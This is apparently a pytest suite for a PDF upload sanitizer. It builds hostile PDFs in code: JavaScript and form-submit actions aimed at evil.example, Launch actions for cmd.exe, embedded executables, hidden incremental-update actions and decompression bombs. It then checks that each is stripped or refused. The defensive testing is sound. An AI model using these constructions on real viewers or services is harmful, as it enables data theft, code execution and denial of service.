"""Hostile PDFs uploaded as evidence: each is refused with its reason, or stored CLEAN.

The corpus is built here with pikepdf (no binary fixtures): embedded files, links, form actions,
open actions, JavaScript in every place a viewer runs it, GoToR/GoToE, XFA, an object stream and an
incremental update hiding actions, and decompression bombs behind filter chains. Each goes through
the real routes (API and the applicant's page). For a stored file the STORED BYTES are read back
from storage, and the dossier PDF that merges them is generated; both are walked object by object
with ``hostile_names`` (written here, independent of the code under test). The control tests take
the cleaning away and show the same walker finding the attack, so these tests can fail.
"""

from __future__ import annotations

import io
import zlib

import pikepdf
import pytest
import sqlalchemy as sa
from pypdf import PdfReader

from artisan_awards.errors import ValidationFailed
from artisan_awards.extensions import db
from artisan_awards.models import Attachment
from artisan_awards.services import attachments as attachment_service
from artisan_awards.services import cleaning
from artisan_awards.storage import storage
from tests.test_api import assert_error, is_vietnamese, upload
from workflows.states import State

TEXT = "CHUNG NHAN NGHE NHAN 2024"
PAYLOAD = b"\x7fELF-PAYLOAD-MARKER"
SCRIPT = "app.launchURL('http://evil.example/x')"
# What must not survive anywhere in a stored file or a dossier.
HOSTILE = {"/JS", "/JavaScript", "/URI", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/AcroForm", "/XFA",
           "/OpenAction", "/AA", "/SubmitForm", "/ImportData", "/ResetForm", "/GoToR", "/GoToE",
           "/FileAttachment"}
MB = 1024 * 1024


def hostile_names(data: bytes) -> set[str]:
    """Every hostile name used as a key or value anywhere, plus payloads found in any decoded stream."""
    hits: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack = [pdf.trailer, pdf.Root] + list(pdf.objects)
        seen = set()
        while stack:
            item = stack.pop()
            if isinstance(item, pikepdf.Name):
                if str(item) in HOSTILE:
                    hits.add(str(item))
            elif isinstance(item, pikepdf.Array):
                stack.extend(item)
            elif isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
                if item.is_indirect:
                    if item.objgen in seen:
                        continue
                    seen.add(item.objgen)
                for key, value in item.items():
                    if key in HOSTILE:
                        hits.add(key)
                    stack.append(value)
                if isinstance(item, pikepdf.Stream):
                    try:
                        body = item.read_bytes()
                    except pikepdf.PdfError:
                        body = item.read_raw_bytes()
                    if PAYLOAD in body:
                        hits.add("payload")
                    if SCRIPT.encode() in body or b"<script" in body:
                        hits.add("script-text")
            elif isinstance(item, pikepdf.String) and SCRIPT in str(item):
                hits.add("script-text")
    return hits


def page_text(data: bytes, page: int = 0) -> str:
    return " ".join(PdfReader(io.BytesIO(data)).pages[page].extract_text().split())


# -- the corpus ---------------------------------------------------------------------------------


def base(pdf: pikepdf.Pdf) -> pikepdf.Page:
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                BaseFont=pikepdf.Name.Helvetica))
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 20 Tf 72 700 Td ({TEXT}) Tj ET".encode())
    return page


def build(*steps, **save) -> bytes:
    pdf = pikepdf.new()
    base(pdf)
    for step in steps:
        step(pdf)
    out = io.BytesIO()
    if "encryption" not in save:
        save.setdefault("stream_decode_level", pikepdf.StreamDecodeLevel.none)
        save.setdefault("compress_streams", False)  # keep each chain as built
    pdf.save(out, **save)
    return out.getvalue()


def js(pdf, code=SCRIPT):
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))


def annot(pdf, subtype, **extra):
    a = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype),
                                             Rect=[72, 600, 300, 640], **extra))
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = pdf.make_indirect(pikepdf.Array())
    page.Annots.append(a)
    return a


def filespec(pdf):
    ef = pdf.make_stream(PAYLOAD * 10)
    ef.Type = pikepdf.Name.EmbeddedFile
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"),
                                                UF=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=ef)))


def embedded_names(pdf):
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("run.exe"), filespec(pdf)])))


def file_attachment_annotation(pdf):
    annot(pdf, "/FileAttachment", FS=filespec(pdf), Contents=pikepdf.String("mở tôi"))


def uri_link(pdf):
    annot(pdf, "/Link", A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/")))


def launch_action(pdf):
    annot(pdf, "/Link", A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"),
                                             Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                               F=pikepdf.String("calc.exe")))


def acroform_actions(pdf):
    fields = []
    for name, action in [("gui", pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
                                                    F=pikepdf.String("http://evil.example/steal"))),
                         ("xoa", pikepdf.Dictionary(S=pikepdf.Name.ResetForm)),
                         ("nap", pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("x.fdf")))]:
        fields.append(annot(pdf, "/Widget", FT=pikepdf.Name.Btn, T=pikepdf.String(name), A=action,
                            P=pdf.pages[0].obj))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(fields))


def widget_aa(pdf):
    field = annot(pdf, "/Widget", FT=pikepdf.Name.Tx, T=pikepdf.String("ten"),
                  AA=pikepdf.Dictionary(K=js(pdf), F=js(pdf), Fo=js(pdf)))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def open_action_js(pdf):
    pdf.Root.OpenAction = js(pdf)


def page_aa(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=js(pdf), C=js(pdf))


def catalog_aa(pdf):
    pdf.Root.AA = pikepdf.Dictionary(WC=js(pdf), DP=js(pdf))


def names_javascript(pdf):
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("init"), js(pdf)])))


def annotation_js(pdf):
    annot(pdf, "/Link", A=js(pdf))
    annot(pdf, "/Text", Contents=pikepdf.String("ghi chú"), AA=pikepdf.Dictionary(E=js(pdf)))


def outline_js(pdf):
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=1))
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Mục 1"), Parent=outlines, A=js(pdf)))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines


def gotor_gotoe(pdf):
    annot(pdf, "/Link", A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"),
                                             D=pikepdf.Array([0, pikepdf.Name.Fit])))
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("run.exe")),
        D=pikepdf.Array([0, pikepdf.Name.Fit])))


def xfa(pdf):
    packet = pdf.make_stream(b"<xdp:xdp><template><script>" + SCRIPT.encode() + b"</script></template></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array(
        [pikepdf.String("template"), packet]))
    pdf.Root.NeedsRendering = True


def hidden_in_resources(pdf):
    """Actions and a payload reachable only from the page's resources (a form XObject, a font)."""
    form = pdf.make_stream(b"0 0 1 rg 10 10 20 20 re f")
    form.Type, form.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    form.BBox = [0, 0, 50, 50]
    form.AA = pikepdf.Dictionary(O=js(pdf))
    form.Metadata = pdf.make_stream(b"<x:xmpmeta><script>" + SCRIPT.encode() + b"</script></x:xmpmeta>")
    form.Junk = filespec(pdf)
    page = pdf.pages[0]
    page.obj.Resources.XObject = pikepdf.Dictionary(Fx=form)
    page.obj.Resources.Font.F1.JS = pikepdf.String(SCRIPT)
    page.obj.Contents = pdf.make_stream(f"BT /F1 20 Tf 72 700 Td ({TEXT}) Tj ET q /Fx Do Q".encode())
    pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta><script>" + SCRIPT.encode() + b"</script></x:xmpmeta>")


def everything(pdf):
    for step in (embedded_names, file_attachment_annotation, uri_link, widget_aa, page_aa, catalog_aa,
                 outline_js):
        step(pdf)


def incremental_update() -> bytes:
    """A clean file, then an appended update (new catalog version + action) as editors write them."""
    clean = build(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        root_num, pages_num = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0]
        size = int(pdf.trailer.Size)
        startxref = int(clean[clean.rindex(b"startxref") + 9:].split()[0])
    action = size
    body = bytearray(clean)
    offsets = {}
    offsets[root_num] = len(body)
    body += (f"{root_num} 0 obj\n<< /Type /Catalog /Pages {pages_num} 0 R /OpenAction {action} 0 R "
             f"/AA << /WC {action} 0 R >> >>\nendobj\n").encode()
    offsets[action] = len(body)
    body += f"{action} 0 obj\n<< /S /JavaScript /JS ({SCRIPT}) >>\nendobj\n".encode()
    xref = len(body)
    body += b"xref\n"
    for num in sorted(offsets):
        body += f"{num} 1\n{offsets[num]:010d} 00000 n \n".encode()
    body += (f"trailer\n<< /Size {size + 1} /Root {root_num} 0 R /Prev {startxref} >>\n"
             f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(body)


STRIPPED = [
    ("embedded-files-name-tree", lambda: build(embedded_names), {"embedded_files"}),
    ("file-attachment-annotation", lambda: build(file_attachment_annotation), {"embedded_files"}),
    ("uri-link", lambda: build(uri_link), {"links"}),
    ("launch-action", lambda: build(launch_action), {"links"}),
    ("acroform-submit-reset-import", lambda: build(acroform_actions), {"forms"}),
    ("widget-aa", lambda: build(widget_aa), {"forms", "javascript"}),
    ("open-action-javascript", lambda: build(open_action_js), {"actions", "javascript"}),
    ("page-aa", lambda: build(page_aa), {"actions", "javascript"}),
    ("catalog-aa", lambda: build(catalog_aa), {"actions", "javascript"}),
    ("names-javascript", lambda: build(names_javascript), {"javascript"}),
    ("annotation-javascript", lambda: build(annotation_js), {"javascript", "annotations"}),
    ("outline-javascript", lambda: build(outline_js), {"javascript", "bookmarks"}),
    ("gotor-gotoe", lambda: build(gotor_gotoe), {"links"}),
    ("xfa", lambda: build(xfa), {"forms"}),
    ("hidden-in-resources", lambda: build(hidden_in_resources), {"actions", "javascript", "embedded_files"}),
    ("object-stream-hiding-actions",
     lambda: build(open_action_js, page_aa, uri_link, object_stream_mode=pikepdf.ObjectStreamMode.generate),
     {"actions", "javascript", "links"}),
    ("incremental-update", incremental_update, {"actions", "javascript"}),
    ("everything", lambda: build(everything), {"embedded_files", "links", "forms", "actions", "javascript"}),
]


# -- bombs -----------------------------------------------------------------------------------------


def stream_with(pdf, data: bytes, filters: list[str], **extra):
    s = pikepdf.Stream(pdf, b"")
    s.write(data, filter=pikepdf.Array([pikepdf.Name(f) for f in filters]) if len(filters) > 1
            else pikepdf.Name(filters[0]))  # already encoded: saved as it is
    for k, v in extra.items():
        s["/" + k] = v
    return pdf.make_indirect(s)


def stacked_flate(pdf):
    data = b"\x00" * (60 * MB)
    for _ in range(3):
        data = zlib.compress(data, 9)
    pdf.pages[0].obj.Resources.XObject = pikepdf.Dictionary(
        B=stream_with(pdf, data, ["/FlateDecode"] * 3, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                      BBox=[0, 0, 1, 1]))


def hex_over_flate(pdf):
    data = zlib.compress(b"\x00" * (40 * MB), 9).hex().encode() + b">"
    pdf.pages[0].obj.Contents = stream_with(pdf, data, ["/ASCIIHexDecode", "/FlateDecode"])


def long_chain(pdf):
    data = b"BT ET"
    for _ in range(6):
        data = data.hex().encode()
    pdf.pages[0].obj.Contents = stream_with(pdf, data, ["/ASCIIHexDecode"] * 6)


def huge_image(pdf):
    image = stream_with(pdf, zlib.compress(b"\x00" * 1024), ["/FlateDecode"], Type=pikepdf.Name.XObject,
                        Subtype=pikepdf.Name.Image, Width=100_000, Height=100_000,
                        ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8)
    pdf.pages[0].obj.Resources.XObject = pikepdf.Dictionary(Im=image)


def huge_image_stream(pdf):
    """Plausible dimensions, but the image data inflates far beyond them."""
    image = stream_with(pdf, zlib.compress(b"\x00" * (30 * MB), 9), ["/FlateDecode"], Type=pikepdf.Name.XObject,
                        Subtype=pikepdf.Name.Image, Width=100, Height=100, ColorSpace=pikepdf.Name.DeviceGray,
                        BitsPerComponent=8)
    pdf.pages[0].obj.Resources.XObject = pikepdf.Dictionary(Im=image)


def many_small_streams(pdf):
    chunk = zlib.compress(b"\x00" * (256 * 1024), 9)
    pdf.pages[0].obj.Resources.XObject = pikepdf.Dictionary({
        f"/S{i}": stream_with(pdf, chunk, ["/FlateDecode"], Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                              BBox=[0, 0, 1, 1])
        for i in range(60)})


def broken_flate(pdf):
    pdf.pages[0].obj.Contents = stream_with(pdf, b"x\x9c" + bytes(range(256)) * 4, ["/FlateDecode"])


def inline_image_bomb(pdf):
    """An inline image (inside the content stream) claiming 100 000 × 100 000 pixels."""
    pdf.pages[0].obj.Contents = pdf.make_stream(
        b"q BI /W 100000 /H 100000 /BPC 1 /CS /G /F /Fl ID " + zlib.compress(b"\x00" * 1000) + b" EI Q")


def unknown_filter(pdf):
    pdf.pages[0].obj.Contents = stream_with(pdf, b"xxxx", ["/FooDecode"])


REFUSED = [
    ("stacked-flate", lambda: build(stacked_flate), "nén quá mức cho phép"),
    ("ascii-hex-over-flate", lambda: build(hex_over_flate), "giải nén ra quá lớn (quá 10 MB)"),
    ("chain-too-long", lambda: build(long_chain), "hơn 4 lớp nén chồng nhau"),
    ("huge-image", lambda: build(huge_image), "Ảnh trong tệp PDF quá lớn"),
    ("huge-image-stream", lambda: build(huge_image_stream), "giải nén ra quá lớn"),
    ("many-small-streams", lambda: build(many_small_streams), "giải nén ra quá lớn"),
    ("unknown-filter", lambda: build(unknown_filter), "kiểu nén không được hỗ trợ (FooDecode)"),
    ("broken-compressed-data", lambda: build(broken_flate), "dữ liệu nén bị hỏng"),
    ("inline-image-bomb", lambda: build(inline_image_bomb), "Ảnh trong tệp PDF quá lớn"),
    ("encrypted", lambda: build(encryption=pikepdf.Encryption(owner="chu", user="")), "mã hóa"),
    ("garbage", lambda: b"%PDF-1.7\n" + b"\x00garbage" * 200, "hỏng"),
]


@pytest.fixture(autouse=True)
def limits(app):
    app.config.update(PDF_MAX_EXPANDED_BYTES=10 * MB, PDF_MAX_FILTERS=4, PDF_MAX_EXPANSION=2000)


def count() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(Attachment))


def stored_bytes(attachment_id: int) -> bytes:
    """The file as storage holds it: what every later reader gets."""
    return storage().get(db.session.get(Attachment, attachment_id).stored_name)


def dossier(api, n, user) -> bytes:
    r = api.get(f"/api/v1/nominations/{n.id}/dossier.pdf", user)
    assert r.status_code == 200 and r.data.startswith(b"%PDF-"), r.status_code
    return r.data


# -- stripped -------------------------------------------------------------------------------------


@pytest.mark.parametrize("make_file, removed", [c[1:] for c in STRIPPED], ids=[c[0] for c in STRIPPED])
def test_hostile_pdf_is_stored_clean_through_the_api(api, make, people, make_file, removed):
    content = make_file()
    assert hostile_names(content), "the corpus file must carry its attack"
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = upload(api, n.id, people.applicant, content, "bang-khen.pdf", "certificate")
    assert r.status_code == 201, r.get_json()
    body = r.get_json()
    assert removed <= set(body["removed"]), body
    assert body["notice"].startswith("Đã gỡ bỏ") and is_vietnamese(body["notice"])
    stored = stored_bytes(body["id"])
    assert hostile_names(stored) == set()
    assert TEXT in page_text(stored)
    merged = dossier(api, n, people.applicant)
    assert hostile_names(merged) == set()
    assert TEXT in page_text(merged, -1)


@pytest.mark.parametrize("make_file, removed", [c[1:] for c in STRIPPED], ids=[c[0] for c in STRIPPED])
def test_hostile_pdf_is_stored_clean_through_the_page(client, auth, make, make_file, removed):
    user = auth.login_as("applicant")
    n = make.nomination(State.DRAFT, owner=user)
    r = client.post(f"/my/{n.id}/evidence", data={"kind": "certificate", "upload": "1",
                                                  "file": (io.BytesIO(make_file()), "bang-khen.pdf")},
                    content_type="multipart/form-data", follow_redirects=True)
    page = r.get_data(as_text=True)
    assert r.status_code == 200 and "Đã tải lên tài liệu." in page
    for code in removed:
        assert cleaning.REMOVED_LABELS[code] in page, code
    [row] = db.session.scalars(sa.select(Attachment)).all()
    stored = stored_bytes(row.id)
    assert hostile_names(stored) == set() and TEXT in page_text(stored)
    assert row.size == len(stored)


def test_the_notice_is_english_on_request(api, make, people):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = api.post(f"/api/v1/nominations/{n.id}/attachments", people.applicant,
                 headers={"Accept-Language": "en"},
                 data={"kind": "certificate", "file": (io.BytesIO(build(uri_link, open_action_js)), "x.pdf")},
                 content_type="multipart/form-data")
    assert r.status_code == 201
    assert r.get_json()["notice"] == "Removed JavaScript code, automatic actions and links from the file."


def test_a_clean_pdf_reports_nothing_removed(api, make, people):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    body = upload(api, n.id, people.applicant, build(), "x.pdf", "certificate").get_json()
    assert body["removed"] == [] and body["notice"] is None


def test_what_was_removed_is_logged(api, make, people, caplog):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    with caplog.at_level("INFO"):
        r = upload(api, n.id, people.applicant, build(open_action_js, uri_link), "x.pdf", "certificate")
    assert f"attachment {r.get_json()['id']} of dossier {n.id}: removed actions, javascript, links" in caplog.text


# -- refused --------------------------------------------------------------------------------------


@pytest.mark.parametrize("make_file, words", [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_hostile_pdf_is_refused_with_its_reason(api, client, auth, make, people, app, make_file, words):
    content = make_file()
    assert len(content) < app.config["MAX_UPLOAD_BYTES"]
    n = make.nomination(State.DRAFT, owner=people.applicant)
    err = assert_error(upload(api, n.id, people.applicant, content, "bom.pdf", "certificate"), 422,
                       "validation_failed")
    assert words in err["fields"]["file"], err
    assert count() == 0 and storage().keys() == []
    auth.login(people.applicant.email)
    r = client.post(f"/my/{n.id}/evidence", data={"kind": "certificate", "upload": "1",
                                                  "file": (io.BytesIO(content), "bom.pdf")},
                    content_type="multipart/form-data", follow_redirects=True)
    assert r.status_code == 200 and words in r.get_data(as_text=True)
    assert count() == 0 and storage().keys() == []


def test_a_refusal_is_english_on_request(api, make, people):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = api.post(f"/api/v1/nominations/{n.id}/attachments", people.applicant,
                 headers={"Accept-Language": "en"},
                 data={"kind": "certificate", "file": (io.BytesIO(build(long_chain)), "x.pdf")},
                 content_type="multipart/form-data")
    err = assert_error(r, 422)
    assert "more than 4" in err["fields"]["file"] and not is_vietnamese(err["fields"]["file"])


def test_a_bomb_is_never_inflated_whole(app, monkeypatch):
    """The decoder stops at the cap: no stage ever hands on more than the budget (plus one chunk)."""
    seen = []
    real = cleaning._capped

    def spy(chunks, cap):
        for chunk in real(chunks, cap):
            seen.append(len(chunk))
            yield chunk

    monkeypatch.setattr(cleaning, "_capped", spy)
    with app.app_context(), pytest.raises(ValidationFailed):
        cleaning.clean_pdf(build(stacked_flate))
    assert max(seen) <= cleaning.CHUNK and sum(seen) < 60 * MB / 10


def test_honest_filter_chains_still_pass(api, make, people):
    def honest(pdf):
        content = f"BT /F1 20 Tf 72 700 Td ({TEXT}) Tj ET".encode() + b"".join(
            f"\n{i % 997} {i % 13} {i % 89} rg".encode() for i in range(200_000))  # ~3 MB of drawing
        import base64
        pdf.pages[0].obj.Contents = stream_with(pdf, base64.a85encode(zlib.compress(content), adobe=True)[2:],
                                                ["/ASCII85Decode", "/FlateDecode"])
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = upload(api, n.id, people.applicant, build(honest), "x.pdf", "certificate")
    assert r.status_code == 201, r.get_json()
    assert TEXT in page_text(stored_bytes(r.get_json()["id"]))


# -- controls: without the cleaning, the same checks find the attack ------------------------------


@pytest.mark.filterwarnings("ignore::pikepdf._exceptions.PageCopyWarning")  # qpdf: forms are not merged
def test_control_without_the_rewrite_the_walker_finds_the_attacks(api, make, people, monkeypatch):
    monkeypatch.setattr(cleaning, "clean_pdf", lambda data: (data, set()))
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = upload(api, n.id, people.applicant, build(everything), "x.pdf", "certificate")
    assert r.status_code == 201
    assert {"/EmbeddedFiles", "/FileAttachment", "/URI", "/AA", "/JS", "/AcroForm", "payload"} <= hostile_names(
        stored_bytes(r.get_json()["id"]))
    # Page-level attacks travel into the merged dossier too.
    assert {"/URI", "/AA", "/JS", "/FileAttachment"} <= hostile_names(dossier(api, n, people.applicant))


def test_control_without_the_scrub_resources_carry_the_attack(api, make, people, monkeypatch):
    monkeypatch.setattr(cleaning, "_scrub", lambda obj, seen: None)
    monkeypatch.setattr(cleaning, "active_features", lambda pdf: set())
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = upload(api, n.id, people.applicant, build(hidden_in_resources), "x.pdf", "certificate")
    assert r.status_code == 201
    assert {"/AA", "/JS", "/EmbeddedFile", "payload"} <= hostile_names(stored_bytes(r.get_json()["id"]))


def test_control_the_final_check_refuses_what_the_scrub_missed(api, make, people, monkeypatch):
    monkeypatch.setattr(cleaning, "_scrub", lambda obj, seen: None)
    n = make.nomination(State.DRAFT, owner=people.applicant)
    err = assert_error(upload(api, n.id, people.applicant, build(hidden_in_resources), "x.pdf", "certificate"), 422)
    assert "không gỡ bỏ được an toàn" in err["fields"]["file"]
    assert count() == 0


def test_control_without_the_budget_a_bomb_gets_through(api, make, people, monkeypatch):
    monkeypatch.setattr(cleaning, "decoded_size", lambda stream, remaining: 0)
    n = make.nomination(State.DRAFT, owner=people.applicant)
    assert upload(api, n.id, people.applicant, build(many_small_streams), "x.pdf", "certificate").status_code == 201


def test_the_service_refuses_without_storing(app, make, people):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    from werkzeug.datastructures import FileStorage
    with pytest.raises(Exception) as caught:
        attachment_service.add_attachment(people.applicant, n, "certificate",
                                          FileStorage(io.BytesIO(build(hex_over_flate)), "x.pdf"))
    assert "giải nén" in str(caught.value.fields["file"])
    assert count() == 0 and storage().keys() == []


# -- files stored before the rewrite existed -------------------------------------------------------


def test_attachments_clean_rewrites_earlier_uploads(api, make, people, runner, monkeypatch):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    real = cleaning.clean_pdf
    monkeypatch.setattr(cleaning, "clean_pdf", lambda data: (data, set()))  # as uploads were before
    hostile = upload(api, n.id, people.applicant, build(everything), "cu.pdf", "certificate").get_json()["id"]
    bomb = upload(api, n.id, people.applicant, build(many_small_streams), "bom.pdf", "certificate").get_json()["id"]
    monkeypatch.setattr(cleaning, "clean_pdf", real)
    old_key = db.session.get(Attachment, hostile).stored_name
    assert "payload" in hostile_names(stored_bytes(hostile))

    dry = runner.invoke(args=["attachments", "clean", "--dry-run"])
    assert f"WOULD REWRITE {hostile}" in dry.output and "payload" in hostile_names(stored_bytes(hostile))

    result = runner.invoke(args=["attachments", "clean"])
    assert f"REWRITTEN {hostile}: removed" in result.output and "embedded_files" in result.output
    assert f"REFUSED {bomb}: Tệp PDF nén quá mức cho phép" in result.output and result.exit_code == 1
    db.session.expire_all()
    row = db.session.get(Attachment, hostile)
    stored = stored_bytes(hostile)
    assert row.stored_name != old_key and old_key not in storage().keys()
    assert hostile_names(stored) == set() and TEXT in page_text(stored)
    import hashlib
    assert row.sha256 == hashlib.sha256(stored).hexdigest() and row.size == len(stored)
    again = runner.invoke(args=["attachments", "clean"])
    assert "0 rewritten" in again.output, again.output


def test_the_archival_dossier_embeds_only_the_clean_rewrite(api, make, people):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    assert upload(api, n.id, people.applicant, build(everything), "x.pdf", "certificate").status_code == 201
    r = api.get(f"/api/v1/nominations/{n.id}/dossier.pdf?archival=1", people.applicant)
    assert r.status_code == 200
    with pikepdf.open(io.BytesIO(r.data)) as archival:
        # PDF/A-3 carries the evidence as associated files (its own /EmbeddedFiles); each is clean.
        files = [spec.get_file().read_bytes() for spec in archival.attachments.values()]
    assert len(files) == 1
    assert hostile_names(files[0]) == set() and TEXT in page_text(files[0])


def renamed_resources(pdf):
    """Resource names are the producer's choice: a font called /A, a form XObject called /F."""
    page = pdf.pages[0]
    font = page.obj.Resources.Font.F1
    form = pdf.make_stream(f"BT /A 14 Tf 72 600 Td (FORM {TEXT}) Tj ET".encode())
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 595, 842]
    form.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(A=font))
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(A=font), XObject=pikepdf.Dictionary(F=form))
    page.obj.Contents = pdf.make_stream(f"BT /A 20 Tf 72 700 Td ({TEXT}) Tj ET /F Do".encode())


def test_resources_named_like_action_keys_survive(api, make, people):
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = upload(api, n.id, people.applicant, build(renamed_resources), "x.pdf", "certificate")
    assert r.status_code == 201 and r.get_json()["removed"] == []
    text = page_text(stored_bytes(r.get_json()["id"]))
    assert TEXT in text and f"FORM {TEXT}" in text


def test_control_scrubbing_resource_names_loses_the_form(api, make, people, monkeypatch):
    monkeypatch.setattr(cleaning, "RESOURCE_MAPS", set())  # name maps scrubbed like any dictionary
    n = make.nomination(State.DRAFT, owner=people.applicant)
    r = upload(api, n.id, people.applicant, build(renamed_resources), "x.pdf", "certificate")
    assert r.status_code == 201
    assert f"FORM {TEXT}" not in page_text(stored_bytes(r.get_json()["id"]))
